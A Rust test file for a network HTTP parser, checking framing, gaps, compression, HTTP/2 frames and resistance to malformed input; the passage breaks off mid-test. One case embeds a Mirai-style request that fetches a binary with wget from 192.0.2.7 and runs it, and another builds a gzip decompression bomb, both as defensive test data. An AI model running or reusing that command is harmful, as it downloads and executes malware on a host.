//! Scenario tests: a connection as a list of steps (bytes per direction, gaps,
//! close), turned into `conn`/`data`/`gap` records, run through the parser.
//! Every scenario is also run with each data step split at every byte
//! boundary, and byte by byte: the transactions must not change.

use std::borrow::Cow;

use super::body::tests::{br, gzip, raw_deflate, zlib, zstd};
use super::*;
use crate::record::{Conn, ConnEvent, Data, Dir, Gap, Http, Record, Ts};

const FLOW: &str = "f1";

#[derive(Clone)]
enum Step {
    C(Vec<u8>),
    S(Vec<u8>),
    /// Lost bytes in a direction.
    Gap(Dir, u64),
}

fn c(b: impl AsRef<[u8]>) -> Step {
    Step::C(b.as_ref().to_vec())
}
fn s(b: impl AsRef<[u8]>) -> Step {
    Step::S(b.as_ref().to_vec())
}

struct Scenario {
    client: &'static str,
    midstream: bool,
    close: bool,
    steps: Vec<Step>,
}

fn sc(steps: Vec<Step>) -> Scenario {
    Scenario {
        client: "10.1.0.7:51234",
        midstream: false,
        close: true,
        steps,
    }
}

fn ts(i: usize) -> Ts {
    Ts::from_micros(1_714_564_800, i as u32 * 1000)
}

/// The records of a scenario; `split(step, len)` gives the cut points of a
/// data step.
fn records(sc: &Scenario, split: &dyn Fn(usize, usize) -> Vec<usize>) -> Vec<Record<'static>> {
    let mut out = vec![Record::Conn(Conn {
        event: ConnEvent::Open,
        ts: ts(0),
        flow: FLOW.into(),
        community_id: Some("1:abc".into()),
        client: Some(sc.client.into()),
        server: Some("10.1.0.9:80".into()),
        tunnel: Some(vec![]),
        midstream: Some(sc.midstream),
        reason: None,
        bytes_c2s: None,
        bytes_s2c: None,
    })];
    let mut off = [0u64; 2];
    for (i, step) in sc.steps.iter().enumerate() {
        let (dir, bytes) = match step {
            Step::C(b) => (Dir::C2s, b),
            Step::S(b) => (Dir::S2c, b),
            Step::Gap(dir, len) => {
                let o = &mut off[*dir as usize];
                out.push(Record::Gap(Gap {
                    ts: ts(i + 1),
                    flow: FLOW.into(),
                    dir: *dir,
                    off: *o,
                    len: *len,
                }));
                *o += len;
                continue;
            }
        };
        let mut cuts = split(i, bytes.len());
        cuts.retain(|&k| k > 0 && k < bytes.len());
        cuts.push(bytes.len());
        let mut from = 0;
        for k in cuts {
            let o = &mut off[dir as usize];
            out.push(Record::Data(Data {
                ts: ts(i + 1),
                flow: FLOW.into(),
                dir,
                off: *o,
                data: Cow::Owned(bytes[from..k].to_vec()),
            }));
            *o += (k - from) as u64;
            from = k;
        }
    }
    if sc.close {
        out.push(Record::Conn(Conn {
            event: ConnEvent::Close,
            ts: ts(sc.steps.len() + 1),
            flow: FLOW.into(),
            community_id: None,
            client: None,
            server: None,
            tunnel: None,
            midstream: None,
            reason: Some("fin".into()),
            bytes_c2s: None,
            bytes_s2c: None,
        }));
    }
    out
}

fn parse_records(cfg: &HttpConfig, recs: &[Record<'_>]) -> (Vec<Http>, HttpStats) {
    let mut p = HttpParser::new(cfg.clone());
    let mut out = vec![];
    for r in recs {
        p.push(r, &mut |h| out.push(h));
    }
    p.finish(&mut |h| out.push(h));
    (out, p.stats().clone())
}

/// Runs a scenario whole, split at every boundary and byte by byte; checks
/// they agree and returns the transactions.
fn run_cfg(cfg: &HttpConfig, sc: &Scenario) -> (Vec<Http>, HttpStats) {
    let (base, stats) = parse_records(cfg, &records(sc, &|_, _| vec![]));
    for (i, step) in sc.steps.iter().enumerate() {
        let len = match step {
            Step::C(b) | Step::S(b) => b.len(),
            Step::Gap(..) => continue,
        };
        for cut in 1..len {
            let (got, _) = parse_records(
                cfg,
                &records(sc, &|j, _| if j == i { vec![cut] } else { vec![] }),
            );
            assert_eq!(got, base, "step {i} split at {cut}");
        }
    }
    let (bytewise, _) = parse_records(cfg, &records(sc, &|_, len| (1..len).collect()));
    assert_eq!(bytewise, base, "byte by byte");
    (base, stats)
}

fn run(sc: &Scenario) -> Vec<Http> {
    run_cfg(&HttpConfig::default(), sc).0
}

fn body_text(body: &[u8], len: u64, truncated: bool) -> String {
    let mut t = String::from_utf8_lossy(body).into_owned();
    if len != body.len() as u64 {
        t += &format!("/{len}");
    }
    if truncated {
        t += "~";
    }
    if t.is_empty() {
        t
    } else {
        format!(" {t}")
    }
}

/// One line per transaction: `seq METHOD uri [body] -> status [body] [anomalies]`.
fn brief(txs: &[Http]) -> Vec<String> {
    txs.iter()
        .map(|h| {
            let req = match &h.request {
                Some(r) => format!(
                    "{} {}{}",
                    r.method,
                    r.uri,
                    body_text(&r.body, r.body_len, r.truncated)
                ),
                None => "-".into(),
            };
            let resp = match &h.response {
                Some(r) => format!(
                    "{}{}",
                    r.status,
                    body_text(&r.body, r.body_len, r.truncated)
                ),
                None => "-".into(),
            };
            let mut line = format!("{} {req} -> {resp}", h.seq);
            if !h.anomalies.is_empty() {
                line += &format!(" {:?}", h.anomalies);
            }
            line
        })
        .collect()
}

fn get(path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: app\r\n\r\n")
}
fn ok(body: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}
fn coded(encoding: &str, body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "HTTP/1.1 200 OK\r\nContent-Encoding: {encoding}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    r.extend_from_slice(body);
    r
}

#[test]
fn framing_table() {
    let cases: Vec<(&str, Scenario, Vec<&str>)> = vec![
        (
            "keep-alive",
            sc(vec![c(get("/a")), s(ok("hello")), c(get("/b")), s("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")]),
            vec!["0 GET /a -> 200 hello", "1 GET /b -> 404"],
        ),
        (
            "pipelining: three requests, then three responses",
            sc(vec![
                c(get("/1") + &get("/2") + &get("/3")),
                s(ok("one") + &ok("two") + &ok("three")),
            ]),
            vec!["0 GET /1 -> 200 one", "1 GET /2 -> 200 two", "2 GET /3 -> 200 three"],
        ),
        (
            "chunked with extensions and trailers, both ways",
            sc(vec![
                c("POST /up HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n4;name=\"x\"\r\nWiki\r\n5 ; ext\r\npedia\r\n0\r\nX-Sum: 9\r\n\r\n"),
                s("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n"),
                c(get("/next")),
                s(ok("n")),
            ]),
            vec!["0 POST /up Wikipedia -> 200 ok", "1 GET /next -> 200 n"],
        ),
        (
            "close-delimited response ended by conn close",
            sc(vec![c(get("/")), s("HTTP/1.0 200 OK\r\nServer: x\r\n\r\nuntil "), s("the end")]),
            vec!["0 GET / -> 200 until the end"],
        ),
        (
            "HEAD with Content-Length has no body",
            sc(vec![
                c("HEAD / HTTP/1.1\r\nHost: a\r\n\r\n"),
                s("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n"),
                c(get("/x")),
                s(ok("ok")),
            ]),
            vec!["0 HEAD / -> 200", "1 GET /x -> 200 ok"],
        ),
        (
            "204 and 304 have no body",
            sc(vec![
                c(get("/a") + &get("/b") + &get("/c")),
                s("HTTP/1.1 204 No Content\r\nContent-Length: 5\r\n\r\nHTTP/1.1 304 Not Modified\r\nContent-Length: 50\r\n\r\n"),
                s(ok("c")),
            ]),
            vec!["0 GET /a -> 204", "1 GET /b -> 304", "2 GET /c -> 200 c"],
        ),
        (
            "100-continue interim is not the final response",
            sc(vec![
                c("POST /f HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n"),
                s("HTTP/1.1 100 Continue\r\n\r\n"),
                c("data"),
                s(ok("done")),
            ]),
            vec![r#"0 POST /f data -> 200 done ["expect_100_interim"]"#],
        ),
        (
            "CL and TE: chunked wins",
            sc(vec![
                c("POST /s HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
                c(get("/after")),
                s(ok("1") + &ok("2")),
            ]),
            vec![
                r#"0 POST /s hello -> 200 1 ["cl_te_conflict"]"#,
                "1 GET /after -> 200 2",
            ],
        ),
        (
            "duplicate and conflicting Content-Length: the first is used",
            sc(vec![
                c("POST /d HTTP/1.1\r\nContent-Length: 5\r\nContent-Length: 3\r\n\r\nhello"),
                c(get("/e")),
                s(ok("1") + &ok("2")),
            ]),
            vec![
                r#"0 POST /d hello -> 200 1 ["duplicate_content_length", "conflicting_content_length"]"#,
                "1 GET /e -> 200 2",
            ],
        ),
        (
            "response without request",
            sc(vec![s(ok("lonely"))]),
            vec![r#"0 - -> 200 lonely ["response_without_request"]"#],
        ),
        (
            "request without response at the end",
            sc(vec![c(get("/a")), s(ok("a")), c(get("/never"))]),
            vec!["0 GET /a -> 200 a", "1 GET /never -> -"],
        ),
        (
            "a body cut by the close",
            sc(vec![c(get("/a")), s("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc")]),
            vec![r#"0 GET /a -> 200 abc~ ["incomplete_response_body"]"#],
        ),
        (
            "gap inside a body of known length: stays in sync",
            sc(vec![
                c("POST /p HTTP/1.1\r\nContent-Length: 10\r\n\r\n01234"),
                Step::Gap(Dir::C2s, 5),
                c(get("/next")),
                s(ok("1") + &ok("2")),
            ]),
            vec![
                r#"0 POST /p 01234~ -> 200 1 ["gap_in_request_body"]"#,
                "1 GET /next -> 200 2",
            ],
        ),
        (
            "gap past the body: resynchronises at the next request",
            sc(vec![
                c("POST /p HTTP/1.1\r\nContent-Length: 10\r\n\r\n01234"),
                Step::Gap(Dir::C2s, 30),
                c("ost: x\r\n\r\nGET /third HTTP/1.1\r\nHost: a\r\n\r\n"),
                s(ok("1") + &ok("2")),
            ]),
            vec![
                r#"0 POST /p 01234~ -> 200 1 ["gap_in_request_body"]"#,
                "1 GET /third -> 200 2",
            ],
        ),
        (
            "gap in a chunked response: resync at the next response",
            sc(vec![
                c(get("/a") + &get("/b")),
                s("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nab"),
                Step::Gap(Dir::S2c, 20),
                s("xyz\r\n0\r\n\r\n"),
                s(ok("b")),
            ]),
            vec![
                r#"0 GET /a -> 200 ab~ ["gap_in_response_body"]"#,
                "1 GET /b -> 200 b",
            ],
        ),
        (
            "midstream: start inside bodies",
            Scenario {
                midstream: true,
                ..sc(vec![
                    c("rest of a form=1&b=2GET /m HTTP/1.1\r\nHost: a\r\n\r\n"),
                    s("ody tail</html>\r\n"),
                    s(ok("m")),
                ])
            },
            vec!["0 GET /m -> 200 m"],
        ),
        (
            "midstream: the first client byte seen starts a request",
            Scenario {
                midstream: true,
                ..sc(vec![
                    s("ody tail</html>\r\n"),
                    c(get("/first")),
                    s(ok("1")),
                    c(get("/second")),
                    s(ok("2")),
                ])
            },
            vec!["0 GET /first -> 200 1", "1 GET /second -> 200 2"],
        ),
        (
            "raw non-UTF-8 bytes in the target are kept, percent-encoded",
            sc(vec![c(b"GET /a\xc0\xae\xff/b?q=<x> HTTP/1.1\r\nHost: a\r\n\r\n"), s(ok("r"))]),
            vec![r#"0 GET /a%C0%AE%FF/b?q=<x> -> 200 r ["invalid_uri_bytes"]"#],
        ),
        (
            "raw spaces in the target (Mirai): up to the last space before the version",
            sc(vec![
                c(b"GET /shell?cd+/tmp;wget+ http://192.0.2.7/arm;sh+/tmp/arm HTTP/1.1\r\nHost: a\r\n\r\n"),
                s(ok("r")),
                c(b"GET /x y HTTPS/1.1\r\nHost: a\r\n\r\n"),
            ]),
            vec![
                r#"0 GET /shell?cd+/tmp;wget+%20http://192.0.2.7/arm;sh+/tmp/arm -> 200 r ["invalid_uri_bytes"]"#,
            ],
        ),
        (
            "a status code that is not a number",
            sc(vec![c(get("/t")), s("HTTP/1.0 2XX OK\nServer: POC\nContent-Length:4\n\ntoto"), c(get("/u")), s(ok("u"))]),
            vec![r#"0 GET /t -> 0 toto ["invalid_status_code"]"#, "1 GET /u -> 200 u"],
        ),
        (
            "roles reversed by the reassembler: swapped",
            sc(vec![s(get("/r")), c(ok("r")), s(get("/s")), c(ok("s"))]),
            vec!["0 GET /r -> 200 r", "1 GET /s -> 200 s"],
        ),
        (
            "lenient: LF line ends and blank lines between messages",
            sc(vec![c("GET /lf HTTP/1.1\nHost: a\n\n\r\n"), s("HTTP/1.1 200 OK\nContent-Length: 1\n\nx")]),
            vec!["0 GET /lf -> 200 x"],
        ),
    ];
    for (name, scenario, want) in cases {
        let got = brief(&run(&scenario));
        assert_eq!(got, want, "{name}");
    }
}

#[test]
fn record_fields_and_times() {
    let scenario = sc(vec![
        c("GET /a?b=1 HTTP/1.1\r\nHost: app\r\nX-Dup: 1\r\nx-dup: 2\r\n\r\n"),
        s(ok("hi")),
    ]);
    let txs = run(&scenario);
    assert_eq!(txs.len(), 1);
    let h = &txs[0];
    assert_eq!(h.ts, ts(1));
    assert_eq!(h.ts_end, ts(2));
    assert_eq!(h.flow, FLOW);
    assert_eq!(h.community_id, "1:abc");
    assert_eq!(h.client, "10.1.0.7:51234");
    assert_eq!(h.server, "10.1.0.9:80");
    assert_eq!(h.real_ip, "10.1.0.7");
    let req = h.request.as_ref().unwrap();
    assert_eq!(req.version, "HTTP/1.1");
    assert_eq!(
        req.headers,
        vec![
            ("Host".to_string(), "app".to_string()),
            ("X-Dup".to_string(), "1".to_string()),
            ("x-dup".to_string(), "2".to_string())
        ]
    );
    let resp = h.response.as_ref().unwrap();
    assert_eq!((resp.status, resp.reason.as_str()), (200, "OK"));

    // Trailers and interim statuses land in their fields.
    let txs = run(&sc(vec![
        c("POST /t HTTP/1.1\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n"),
        s("HTTP/1.1 100 Continue\r\n\r\n"),
        c("1\r\nz\r\n0\r\nX-Sum: 9\r\n\r\n"),
        s(ok("")),
    ]));
    assert_eq!(txs[0].interim, vec![100]);
    assert_eq!(
        txs[0].request.as_ref().unwrap().trailers,
        vec![("X-Sum".to_string(), "9".to_string())]
    );
}

#[test]
fn content_codings() {
    let text = b"{\"user\":\"alice\",\"items\":[1,2,3,4,5,6,7,8,9]}".repeat(5);
    let t = String::from_utf8(text.clone()).unwrap();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("gzip", gzip(&text)),
        ("x-gzip", gzip(&text)),
        ("deflate", zlib(&text)),
        ("deflate", raw_deflate(&text)),
        ("br", br(&text)),
        ("zstd", zstd(&text)),
        ("gzip, br", br(&gzip(&text))),
        ("deflate, zstd", zstd(&zlib(&text))),
    ];
    for (enc, body) in cases {
        let mut req = format!(
            "POST /c HTTP/1.1\r\nContent-Encoding: {enc}\r\nContent-Length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        req.extend_from_slice(&body);
        let got = brief(&run(&sc(vec![c(req), s(coded(enc, &body))])));
        assert_eq!(got, vec![format!("0 POST /c {t} -> 200 {t}")], "{enc}");
    }
    // Unknown coding: kept as sent, noted.
    let got = brief(&run(&sc(vec![c(get("/")), s(coded("compress", b"xyz"))])));
    assert_eq!(
        got,
        vec![r#"0 GET / -> 200 xyz ["unsupported_content_encoding"]"#]
    );
    // No bodies: nothing decoded, wire length counted.
    let cfg = HttpConfig {
        body_cap: 0,
        ..HttpConfig::default()
    };
    let coded_body = gzip(&text);
    let (txs, _) = run_cfg(&cfg, &sc(vec![c(get("/")), s(coded("gzip", &coded_body))]));
    let r = txs[0].response.as_ref().unwrap();
    assert_eq!(
        (r.body.len(), r.body_len, r.truncated),
        (0, coded_body.len() as u64, true)
    );
}

#[test]
fn decompression_bomb_in_a_response() {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..64 {
        e.write_all(&zeros).unwrap();
    }
    let bomb = e.finish().unwrap();
    let cfg = HttpConfig {
        body_cap: 1000,
        decompress_cap: 1 << 20,
        ..HttpConfig::default()
    };
    let recs = records(
        &sc(vec![
            c(get("/")),
            s(coded("gzip", &bomb)),
            c(get("/2")),
            s(ok("fine")),
        ]),
        &|_, len| (1..len / 1460 + 1).map(|k| k * 1460).collect(),
    );
    let (txs, stats) = parse_records(&cfg, &recs);
    let r = txs[0].response.as_ref().unwrap();
    assert_eq!(r.body, vec![0u8; 1000]);
    assert!(r.truncated);
    assert_eq!(r.body_len, bomb.len() as u64);
    assert_eq!(txs[0].anomalies, vec!["decompression_capped"]);
    assert_eq!(brief(&txs[1..]), vec!["1 GET /2 -> 200 fine"]);
    assert_eq!(stats.anomalies.get("decompression_capped"), Some(&1));
}

#[test]
fn not_http_and_switches() {
    let hello = b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03rest of a client hello".to_vec();
    let (txs, st) = run_cfg(
        &HttpConfig::default(),
        &sc(vec![c(&hello), s(b"\x16\x03\x03\x00\x5a\x02")]),
    );
    assert!(txs.is_empty());
    assert_eq!(st.non_http, 1);

    let (txs, st) = run_cfg(
        &HttpConfig::default(),
        &sc(vec![s("SSH-2.0-OpenSSH_9.6\r\n"), c("SSH-2.0-x\r\n")]),
    );
    assert!(txs.is_empty());
    assert_eq!(st.non_http, 1);

    // CONNECT: the transaction, then the tunnel is not parsed.
    let (txs, st) = run_cfg(
        &HttpConfig::default(),
        &sc(vec![
            c("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"),
            s("HTTP/1.1 200 Connection established\r\n\r\n"),
            c(&hello),
            s(b"\x16\x03\x03\x00\x5a\x02 GET / HTTP/1.1\r\n\r\n"),
        ]),
    );
    assert_eq!(brief(&txs), vec!["0 CONNECT example.com:443 -> 200"]);
    assert_eq!(st.tunnels, 1);

    // WebSocket upgrade.
    let (txs, st) = run_cfg(
        &HttpConfig::default(),
        &sc(vec![
            c("GET /chat HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
            s("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
            c(b"\x81\x85\x37\xfa\x21\x3d\x7f\x9f\x4d\x51\x58"),
            s(b"\x81\x05Hello"),
        ]),
    );
    assert_eq!(brief(&txs), vec!["0 GET /chat -> 101"]);
    assert_eq!(st.tunnels, 1);

    // Upgrade refused: parsing goes on.
    let txs = run(&sc(vec![
        c("GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n\r\n"),
        c(get("/2")),
        s(ok("no") + &ok("2")),
    ]));
    assert_eq!(brief(&txs), vec!["0 GET / -> 200 no", "1 GET /2 -> 200 2"]);
}

#[test]
fn proxy_protocol_and_real_ip() {
    let txs = run(&sc(vec![
        c("PROXY TCP4 203.0.113.9 10.1.0.9 56324 80\r\nGET / HTTP/1.1\r\n\r\n"),
        s(ok("")),
    ]));
    assert_eq!(brief(&txs), vec!["0 GET / -> 200"]);
    assert_eq!(txs[0].proxy.as_deref(), Some("203.0.113.9:56324"));
    assert_eq!(txs[0].real_ip, "203.0.113.9");

    let mut v2 = super::realip::PROXY_V2_SIG.to_vec();
    v2.extend_from_slice(&[
        0x21, 0x11, 0, 12, 198, 51, 100, 7, 10, 1, 0, 9, 0x04, 0xd2, 0, 80,
    ]);
    v2.extend_from_slice(get("/v2").as_bytes());
    let txs = run(&sc(vec![c(&v2), s(ok(""))]));
    assert_eq!(brief(&txs), vec!["0 GET /v2 -> 200"]);
    assert_eq!(txs[0].proxy.as_deref(), Some("198.51.100.7:1234"));
    assert_eq!(txs[0].real_ip, "198.51.100.7");

    let cfg = HttpConfig {
        real_ip: RealIpConfig {
            headers: DEFAULT_REAL_IP_HEADERS
                .iter()
                .map(|s| s.to_string())
                .collect(),
            trusted: vec!["10.0.0.0/8".parse().unwrap()],
        },
        ..HttpConfig::default()
    };
    let req = |xff: &str| c(format!("GET / HTTP/1.1\r\nX-Forwarded-For: {xff}\r\n\r\n"));
    let (txs, _) = run_cfg(
        &cfg,
        &sc(vec![req("1.1.1.1, 203.0.113.5, 10.9.9.9"), s(ok(""))]),
    );
    assert_eq!(txs[0].real_ip, "203.0.113.5");
    // Untrusted peer: the header does not count.
    let (txs, _) = run_cfg(
        &cfg,
        &Scenario {
            client: "198.51.100.1:4000",
            ..sc(vec![req("203.0.113.5"), s(ok(""))])
        },
    );
    assert_eq!(txs[0].real_ip, "198.51.100.1");
    // Forwarded with a quoted IPv6 and port.
    let (txs, _) = run_cfg(
        &cfg,
        &sc(vec![
            c("GET / HTTP/1.1\r\nForwarded: for=\"[2001:db8::9]:4711\";proto=https\r\n\r\n"),
            s(ok("")),
        ]),
    );
    assert_eq!(txs[0].real_ip, "2001:db8::9");
}

#[test]
fn limits() {
    let cfg = HttpConfig {
        max_header_bytes: 256,
        ..HttpConfig::default()
    };
    let big = format!("GET /big HTTP/1.1\r\nX-Big: {}\r\n\r\n", "a".repeat(1000));
    let (txs, st) = run_cfg(&cfg, &sc(vec![c(big + &get("/small")), s(ok("s"))]));
    assert_eq!(
        brief(&txs),
        vec![r#"0 GET /small -> 200 s ["header_too_large"]"#]
    );
    assert_eq!(st.anomalies.get("header_too_large"), Some(&1));

    let cfg = HttpConfig {
        max_headers: 4,
        ..HttpConfig::default()
    };
    let many = "GET /many HTTP/1.1\r\na: 1\r\nb: 1\r\nc: 1\r\nd: 1\r\ne: 1\r\n\r\n";
    let (txs, _) = run_cfg(
        &cfg,
        &sc(vec![c(many.to_string() + &get("/few")), s(ok("f"))]),
    );
    assert_eq!(
        brief(&txs),
        vec![r#"0 GET /few -> 200 f ["too_many_headers"]"#]
    );

    let cfg = HttpConfig {
        max_queue: 2,
        ..HttpConfig::default()
    };
    let (txs, st) = run_cfg(&cfg, &sc(vec![c(get("/1") + &get("/2") + &get("/3"))]));
    assert_eq!(
        brief(&txs),
        vec![
            r#"0 GET /1 -> - ["request_queue_overflow"]"#,
            "1 GET /2 -> -",
            "2 GET /3 -> -"
        ]
    );
    assert_eq!(st.queue_overflows, 1);
    assert_eq!(st.unpaired_requests, 3);
}

#[test]
fn flows_flush_in_open_order_and_evict_oldest() {
    let open = |id: &str| {
        Record::Conn(Conn {
            event: ConnEvent::Open,
            ts: ts(0),
            flow: id.into(),
            community_id: None,
            client: Some("10.0.0.1:1000".into()),
            server: Some("10.0.0.2:80".into()),
            tunnel: None,
            midstream: None,
            reason: None,
            bytes_c2s: None,
            bytes_s2c: None,
        })
    };
    let data = |id: &str, path: &str| {
        Record::Data(Data {
            ts: ts(1),
            flow: id.to_string().into(),
            dir: Dir::C2s,
            off: 0,
            data: Cow::Owned(get(path).into_bytes()),
        })
    };
    let ids = ["z", "a", "m", "b", "y"];
    let mut recs = vec![];
    for id in ids {
        recs.push(open(id));
    }
    for id in ids {
        recs.push(data(id, &format!("/{id}")));
    }
    let (txs, _) = parse_records(&HttpConfig::default(), &recs);
    let order: Vec<_> = txs.iter().map(|h| h.flow.as_str()).collect();
    assert_eq!(order, ids);

    let cfg = HttpConfig {
        max_flows: 2,
        ..HttpConfig::default()
    };
    let recs = vec![
        open("a"),
        data("a", "/a"),
        open("b"),
        open("c"),
        data("c", "/c"),
    ];
    let (txs, st) = parse_records(&cfg, &recs);
    let order: Vec<_> = txs.iter().map(|h| h.flow.as_str()).collect();
    assert_eq!(order, ["a", "c"]);
    assert_eq!(st.flows_evicted, 1);
}

#[test]
fn garbage_never_panics() {
    // Pseudo-random bytes in both directions, with gaps, in many chunkings.
    let mut seed = 0x9e3779b97f4a7c15u64;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let pieces: &[&[u8]] = &[
        b"GET / HTTP/1.1\r\n",
        b"HTTP/1.1 200 OK\r\n",
        b"Content-Length: 5\r\n",
        b"Transfer-Encoding: chunked\r\n",
        b"\r\n",
        b"ffffffffffffffff\r\n",
        b"0\r\n\r\n",
        b"Content-Encoding: gzip\r\n",
        b"\x1f\x8b\x08\x00",
        b"PROXY ",
        b"Upgrade: h2c\r\n",
        b"HTTP/1.1 100 Continue\r\n\r\n",
        b"\x00\xff\x16\x03",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x00\x00\x05\x01\x05\x00\x00\x00\x01\x82\x86\x84\x41\x8a",
        b"\x00\x00\x03\x00\x09\x00\x00\x00\x01\x02ab",
        b"\x00\x00\x01\x09\x04\x00\x00\x00\x03\xbf",
    ];
    for round in 0..3000 {
        let mut steps = vec![];
        for _ in 0..(next() % 12) {
            let mut bytes = vec![];
            for _ in 0..(next() % 6) {
                if next() % 4 == 0 {
                    let n = next() % 64;
                    bytes.extend((0..n).map(|_| next() as u8));
                } else {
                    bytes.extend_from_slice(pieces[(next() % pieces.len() as u64) as usize]);
                }
            }
            steps.push(match next() % 5 {
                0 => Step::Gap(
                    if next() % 2 == 0 { Dir::C2s } else { Dir::S2c },
                    next() % 40,
                ),
                1 | 2 => Step::C(bytes),
                _ => Step::S(bytes),
            });
        }
        let scenario = Scenario {
            midstream: round % 3 == 0,
            close: round % 2 == 0,
            ..sc(steps)
        };
        let cut = (next() % 7) as usize + 1;
        let recs = records(&scenario, &|_, len| (1..len).step_by(cut).collect());
        let (txs, st) = parse_records(&HttpConfig::default(), &recs);
        assert_eq!(st.transactions, txs.len() as u64);
        assert_eq!(
            st.paired + st.unpaired_requests + st.unpaired_responses,
            st.transactions
        );
    }
}

#[test]
fn reversed_roles_swap_client_and_server() {
    let txs = run(&sc(vec![s(get("/r")), c(ok("r"))]));
    assert_eq!(brief(&txs), vec!["0 GET /r -> 200 r"]);
    assert_eq!(txs[0].client, "10.1.0.9:80");
    assert_eq!(txs[0].server, "10.1.0.7:51234");
    assert_eq!(txs[0].real_ip, "10.1.0.9");
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

fn hpack(enc: &mut loona_hpack::Encoder<'_>, headers: &[(&str, &str)]) -> Vec<u8> {
    enc.encode(headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())))
}

const SETTINGS: u8 = 4;

#[test]
fn http2_prior_knowledge() {
    let mut ce = loona_hpack::Encoder::new();
    let mut se = loona_hpack::Encoder::new();
    let gz = gzip(b"compressed over h2");
    let mut c2s = super::h2::PREFACE.to_vec();
    c2s.extend(frame(SETTINGS, 0, 0, &[]));
    let get = hpack(
        &mut ce,
        &[
            (":method", "GET"),
            (":scheme", "http"),
            (":path", "/x"),
            (":authority", "a"),
        ],
    );
    c2s.extend(frame(1, 0x4 | 0x1, 1, &get));
    // POST split over HEADERS + CONTINUATION, body in two DATA frames.
    let post = hpack(
        &mut ce,
        &[
            (":method", "POST"),
            (":scheme", "http"),
            (":path", "/y"),
            (":authority", "a"),
            ("content-type", "text/plain"),
        ],
    );
    let (p1, p2) = post.split_at(post.len() / 2);
    c2s.extend(frame(1, 0, 3, p1));
    c2s.extend(frame(9, 0x4, 3, p2));
    c2s.extend(frame(0, 0, 3, b"hel"));
    // Padded DATA: pad length 2.
    c2s.extend(frame(0, 0x8 | 0x1, 3, b"\x02lo\0\0"));
    let mut s2c = frame(SETTINGS, 0, 0, &[]);
    s2c.extend(frame(1, 0x4, 3, &hpack(&mut se, &[(":status", "201")])));
    s2c.extend(frame(0, 0x1, 3, b"made"));
    s2c.extend(frame(
        1,
        0x4,
        1,
        &hpack(&mut se, &[(":status", "200"), ("content-encoding", "gzip")]),
    ));
    s2c.extend(frame(0, 0, 1, &gz));
    // Trailers end the stream.
    s2c.extend(frame(
        1,
        0x4 | 0x1,
        1,
        &hpack(&mut se, &[("grpc-status", "0")]),
    ));
    let (txs, st) = run_cfg(
        &HttpConfig::default(),
        &sc(vec![Step::C(c2s), Step::S(s2c)]),
    );
    assert_eq!(
        brief(&txs),
        vec![
            "1 POST /y hello -> 201 made",
            "0 GET /x -> 200 compressed over h2"
        ]
    );
    assert_eq!(st.http2, 1);
    let r = txs[1].response.as_ref().unwrap();
    assert_eq!(r.version, "HTTP/2");
    assert_eq!(
        r.trailers,
        vec![("grpc-status".to_string(), "0".to_string())]
    );
    let q = txs[0].request.as_ref().unwrap();
    assert_eq!(q.headers[0], (":method".to_string(), "POST".to_string()));
    assert_eq!(
        q.headers[4],
        ("content-type".to_string(), "text/plain".to_string())
    );
}

#[test]
fn http2_after_h2c_upgrade_and_gap() {
    let mut se = loona_hpack::Encoder::new();
    let mut c2s = b"GET /up HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n".to_vec();
    c2s.extend_from_slice(super::h2::PREFACE);
    c2s.extend(frame(SETTINGS, 0, 0, &[]));
    let mut s2c =
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n".to_vec();
    s2c.extend(frame(SETTINGS, 0, 0, &[]));
    s2c.extend(frame(1, 0x4, 1, &hpack(&mut se, &[(":status", "200")])));
    s2c.extend(frame(0, 0x1, 1, b"upgraded"));
    let (txs, st) = run_cfg(
        &HttpConfig::default(),
        &sc(vec![Step::C(c2s.clone()), Step::S(s2c)]),
    );
    assert_eq!(brief(&txs), vec!["0 GET /up -> 200 upgraded"]);
    assert_eq!(txs[0].interim, vec![101]);
    assert_eq!(st.http2, 1);

    // A gap ends HTTP/2 parsing; what was seen is still emitted.
    let mut ce = loona_hpack::Encoder::new();
    let mut c2s = super::h2::PREFACE.to_vec();
    c2s.extend(frame(
        1,
        0x5,
        1,
        &hpack(&mut ce, &[(":method", "GET"), (":path", "/g")]),
    ));
    let txs = run(&sc(vec![
        Step::C(c2s),
